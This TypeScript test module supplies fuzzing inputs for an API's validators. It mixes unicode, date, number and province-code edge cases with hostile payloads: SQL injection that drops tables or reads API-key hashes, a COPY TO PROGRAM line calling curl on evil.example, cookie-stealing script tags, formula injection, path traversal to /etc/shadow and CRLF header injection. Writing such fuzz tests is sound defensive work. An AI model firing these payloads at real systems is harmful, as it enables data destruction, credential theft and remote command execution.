// Hostile values for the bad-input barrage: injection strings, unicode edge
// cases, odd dates and numbers, wrong province codes, and the fast-check
// arbitraries built from them.
import fc from 'fast-check';

export const SQL_INJECTION = [
  `'; DROP TABLE "Case"; --`,
  `' OR 1=1 --`,
  `" OR ""="`,
  `') OR ('1'='1`,
  `1; SELECT pg_sleep(10); --`,
  `'; DELETE FROM "Report" WHERE '1'='1`,
  `' UNION SELECT id, hash FROM "ApiKey" --`,
  `'; TRUNCATE "AuditEntry" CASCADE; --`,
  `$1`,
  `\\'; COPY "Child" TO PROGRAM 'curl evil.example'; --`,
  `%' AND 1=0 UNION ALL SELECT NULL --`,
  `1e1000`,
];

export const HTML_INJECTION = [
  '<script>alert(1)</script>',
  '<img src=x onerror=alert(document.cookie)>',
  '"><svg/onload=alert(1)>',
  "javascript:alert('x')",
  '<iframe src="//evil.example"></iframe>',
  '{{constructor.constructor("return process")()}}',
  '${process.exit(1)}',
  '<!--#exec cmd="ls" -->',
  ']]><x>',
  '=cmd|" /C calc"!A0',
  '@SUM(1+1)*cmd|" /C calc"!A0',
];

export const PATH_TRAVERSAL = ['../../../../etc/passwd', '..\\..\\..\\windows\\win.ini', '%2e%2e%2f%2e%2e%2fetc%2fpasswd', '....//....//etc/passwd', '/dev/zero', 'file:///etc/shadow', '..%c0%af..%c0%af', '\\\\evil\\share'];

/** Keys that try prototype pollution or shadow Object.prototype members. */
export const PROTO_KEYS = ['__proto__', 'constructor', 'prototype', '__defineGetter__', '__lookupGetter__', 'hasOwnProperty', 'toString', 'valueOf', 'then'];

export const UNICODE_EDGE = [
  '\ud800', // lone high surrogate
  '\udfff', // lone low surrogate
  'a\ud83db', // broken emoji (high surrogate only)
  '\u202Eevil.exe\u202C', // right-to-left override
  '\u202Dgpj.exe', // left-to-right override
  'a\u200db\u200cc\u200bd', // zero-width joiner, non-joiner, space
  '\u0000', // NUL
  'x\u0000y',
  '\u0001\u001f\u007f', // control characters
  '\ufeffBOM', // byte-order mark
  '\u2028\u2029', // line and paragraph separators
  '\ufffe\uffff', // non-characters
  '👨‍👩‍👧‍👦🏳️‍🌈🧒🏽', // emoji with ZWJ sequences and skin tones
  '𝕄𝔸𝕊𝔸ℝ', // astral mathematical letters
  'مُحَمَّدٌ يَاسِمِينُ', // Arabic with diacritics (harakat)
  'ﷺ ﷽', // Arabic ligatures
  'ياسمين \u061c بنعلي', // Arabic letter mark
  'ⵜⴰⵎⴰⵣⵉⵖⵜ', // Tifinagh (Amazigh)
  'Z̴̢̛͖a̷̡͎l̸̰g̵̨o̷̝', // stacked combining marks
  'e\u0301\u0301\u0301\u0301', // combining accents
  'İıſK', // case-mapping traps (dotted I, long s, Kelvin sign)
  'ТANGER_ASSILAH', // Cyrillic Т homoglyph
  '\t\n\r\v\f',
  '\u00a0\u3000', // non-breaking and ideographic spaces
];

export const NAN_LIKE = ['NaN', 'Infinity', '-Infinity', '1e309', '-1e309', '-0', '0x1F', '0b101', '1_000', ' 7', '7 ', '07', '1.0', '1.5', '1e2', '', 'null', 'undefined', 'true', '[]', '{}', '9007199254740993', '-9223372036854775809', '99999999999999999999999999', '٣', '½'];

/** Dates in formats the API does not accept (strict ISO-8601 with an offset is expected). */
export const ODD_DATES = [
  '14/03/2015',
  '03/14/2015',
  '2015-03-14 10:00:00',
  '2015-03-14T10:00:00',
  '2015-02-30T00:00:00Z',
  '2015-02-29T00:00:00Z',
  '2015-13-01T00:00:00Z',
  '2015-03-14T24:00:00Z',
  '2015-03-14T10:60:00Z',
  '2015-03-14T10:00:00+25:00',
  '2015-03-14T10:00:00+0100',
  '+275760-09-13T00:00:00Z',
  '-000001-01-01T00:00:00Z',
  '1426327200',
  '1426327200000',
  '2015-W11-6',
  '2015-073',
  'March 14, 2015',
  'Sat, 14 Mar 2015 10:00:00 GMT',
  '٢٠١٥-٠٣-١٤', // Arabic-Indic digits
  'now',
  'yesterday',
  '0000-00-00',
  '2015-3-4',
  '20150314',
  '2015-03-14Z',
];

/** Dates the validators accept but that sit at the edges of what a database stores. */
export const EDGE_DATETIMES = ['0000-01-01T00:00:00Z', '0001-01-01T00:00:00Z', '1000-02-29T00:00:00Z', '1970-01-01T00:00:00Z', '2038-01-19T03:14:08Z', '9999-12-31T23:59:59Z', '9999-12-31T23:59:59-23:59', '2016-02-29T23:59:59.999999999+23:59', '2026-01-01T00:00:00.000000000000000000001Z'];
export const EDGE_DATES = ['0000-01-01', '0001-01-01', '1900-02-28', '2000-02-29', '2016-02-29', '9999-12-31'];

/** Province codes that are not TANGER_ASSILAH: unknown, misspelt, another province's. */
export const WRONG_PROVINCES = ['ATLANTIS', 'MEKNES', 'RABAT', 'TANGER', 'TANGER_ASSILAH_', 'TANGER__ASSILAH', 'XX', 'A' + '_'.repeat(63), 'MA_01', 'Z9'];
/** Same, including codes that fail the pattern. */
export const BAD_PROVINCE_CODES = ['tanger_assilah', 'Tanger-Assilah', 'TANGER ASSILAH', 'TANGER_ASSILAH ', ' TANGER_ASSILAH', 'ТANGER_ASSILAH', '1TANGER', 'T', 'A'.repeat(65), "TANGER_ASSILAH'--", 'TANGER_ASSILAH\u0000', '*', '%'];

export const BAD_UUIDS = ['not-a-uuid', '00000000-0000-0000-0000-00000000000', '00000000-0000-4000-8000-0000000000000', 'g0000000-0000-4000-8000-000000000000', '{00000000-0000-4000-8000-000000000000}', '00000000000040008000000000000000', 'urn:uuid:00000000-0000-4000-8000-000000000000', '00000000-0000-4000-8000-000000000000\u0000', ' 00000000-0000-4000-8000-000000000000', '1', '-1', "' OR 1=1 --"];

export const CATALOG = [...SQL_INJECTION, ...HTML_INJECTION, ...PATH_TRAVERSAL, ...PROTO_KEYS, ...UNICODE_EDGE, ...NAN_LIKE, ...ODD_DATES, ...WRONG_PROVINCES, ...BAD_PROVINCE_CODES, ...BAD_UUIDS];

/** A long string built by repeating a hostile unit (cheap to generate, not shrunk char by char). */
export function repeated(minLength: number, maxLength: number): fc.Arbitrary<string> {
  return fc
    .tuple(fc.constantFrom('a', 'ب', '\u0301', '🧒', '\ud800', "'", '<', '\u0000', 'x ', 'َ', ...SQL_INJECTION.slice(0, 2)), fc.integer({ min: minLength, max: maxLength }))
    .map(([unit, n]) => unit.repeat(Math.ceil(n / unit.length)).slice(0, Math.max(n, 1)));
}

/** Any hostile string: the catalog, random unicode (lone surrogates included), and mixtures. */
export const hostileString: fc.Arbitrary<string> = fc.oneof(
  { weight: 5, arbitrary: fc.constantFrom(...CATALOG) },
  { weight: 2, arbitrary: fc.string({ unit: 'binary', maxLength: 40 }) },
  { weight: 1, arbitrary: fc.string({ unit: 'grapheme', maxLength: 40 }) },
  { weight: 2, arbitrary: fc.array(fc.constantFrom(...CATALOG), { minLength: 2, maxLength: 5 }).map((parts) => parts.join('')) },
  { weight: 1, arbitrary: repeated(200, 5_000) },
);

/** Hostile text that a free-text field accepts: 1..max characters, not blank. */
export function hostileText(max: number): fc.Arbitrary<string> {
  return fc
    .oneof(
      { weight: 6, arbitrary: hostileString },
      { weight: 1, arbitrary: repeated(Math.max(1, Math.floor(max / 2)), max) },
    )
    .map((s) => (s.trim().length > 0 ? s : `x${s}`).slice(0, max))
    .filter((s) => s.trim().length > 0 && s.length <= max);
}

/** Replaces lone surrogates by U+FFFD, as a UTF-8 encoder does. */
export function wellFormed(s: string): string {
  return s.replace(/[\ud800-\udbff](?![\udc00-\udfff])|(?<![\ud800-\udbff])[\udc00-\udfff]/g, '\ufffd');
}

/** Percent-encodes any string (lone surrogates become U+FFFD, like a browser would send). */
export function pctEncode(s: string): string {
  return Array.from(Buffer.from(wellFormed(s), 'utf8'))
    .map((b) => (/[A-Za-z0-9\-_.~]/.test(String.fromCharCode(b)) ? String.fromCharCode(b) : `%${b.toString(16).toUpperCase().padStart(2, '0')}`))
    .join('');
}

/** URL fragments that are already (badly) encoded. */
export const RAW_URL_GARBAGE = ['%', '%%', '%E0%A4%A', '%ED%A0%80', '%FF%FE', '%00', '%C0%AE%C0%AE', '%2e%2e', '%2F', '..%2F..%2F', '%252e%252e', '%u202E', '%0d%0aSet-Cookie:x=1', '+', '%20'];
